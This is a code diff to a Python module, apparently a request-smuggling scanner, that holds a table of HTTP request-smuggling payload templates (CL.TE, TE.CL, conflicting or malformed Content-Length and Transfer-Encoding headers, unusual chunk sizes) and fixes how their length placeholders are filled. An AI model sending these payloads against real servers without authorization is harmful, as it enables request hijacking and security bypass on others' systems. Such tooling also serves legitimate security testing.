@@ -19,7 +19,8 @@ _VICTIMS: Final = 3
 _PATIENCE_SECONDS: Final = 0.6
 _DOWN_SECONDS: Final = 0.4
 
-# What follows the head's first lines. INNER is the request that is smuggled, LENGTH its length, ALL the body's.
+# What follows the head's first lines. INNER is the request that is smuggled, LENGTH and HEX its length (HEX2: and
+# two more), ALL the body's.
 _ONE: Final[dict[str, tuple[str, str]]] = {
     "CL.TE": (_LENGTH, "Content-Length: ALL\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nINNER"),
     "TE.CL": (_LENGTH, "Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\nHEX\r\nINNER\r\n0\r\n\r\n"),
@@ -27,7 +28,7 @@ _ONE: Final[dict[str, tuple[str, str]]] = {
     "two lengths, the other way": (_LENGTH, "Content-Length: LENGTH\r\nContent-Length: 0\r\n\r\nINNER"),
     "a list of lengths": (_LENGTH, "Content-Length: LENGTH, 0\r\n\r\nINNER"),
     "a length with a sign": (_LENGTH, "Content-Length: +LENGTH\r\n\r\nINNER"),
-    "a length in hexadecimal": (_LENGTH, "Content-Length: 0xLEXH\r\n\r\nINNER"),
+    "a length in hexadecimal": (_LENGTH, "Content-Length: 0xHEX\r\n\r\nINNER"),
     "a length with a space within": (_LENGTH, "Content-Length: 0 LENGTH\r\n\r\nINNER"),
     "TE.TE xchunked": (_CODING, "Content-Length: ALL\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\nINNER"),
     "TE.TE identity": (
@@ -69,13 +70,16 @@ _ONE: Final[dict[str, tuple[str, str]]] = {
     ),
     "a chunk extension with a line feed": (
         _CHUNKS,
-        "Transfer-Encoding: chunked\r\n\r\n2;\nxx\r\nHEX\r\n0\r\n\r\nINNER\r\n0\r\n\r\n",
+        "Transfer-Encoding: chunked\r\n\r\n2;\nxx\r\nHEX5\r\n0\r\n\r\nINNER\r\n0\r\n\r\n",
     ),
     "a chunk size in two numbers": (
         _CHUNKS,
-        "Transfer-Encoding: chunked\r\n\r\n0 HEX\r\n\r\nINNER\r\n0\r\n\r\n",
+        "Transfer-Encoding: chunked\r\n\r\n0 HEX2\r\n\r\nINNER\r\n0\r\n\r\n",
     ),
-    "a chunk size with a prefix": (_CHUNKS, "Transfer-Encoding: chunked\r\n\r\n0xHEX\r\nINNER\r\n0\r\n\r\n"),
+    "a chunk size with a prefix": (
+        _CHUNKS,
+        "Transfer-Encoding: chunked\r\n\r\n0xHEX2\r\n\r\nINNER\r\n0\r\n\r\n",
+    ),
 }
 
 
@@ -112,9 +116,10 @@ def _inner(target: Target) -> str:
 
 
 def _filled(rest: str, inner: str) -> str:
-    length = len(inner)
-    filled = rest.replace("INNER", inner).replace("HEX", f"{length:x}").replace("LEXH", f"{length:x}")
-    filled = filled.replace("LENGTH", str(length))
+    filled = rest.replace("INNER", inner)
+    for word, more in (("HEX5", 5), ("HEX2", 2), ("HEX", 0)):
+        filled = filled.replace(word, f"{len(inner) + more:x}")
+    filled = filled.replace("LENGTH", str(len(inner)))
     return filled.replace("ALL", str(len(filled.partition("\r\n\r\n")[2])))
 
 
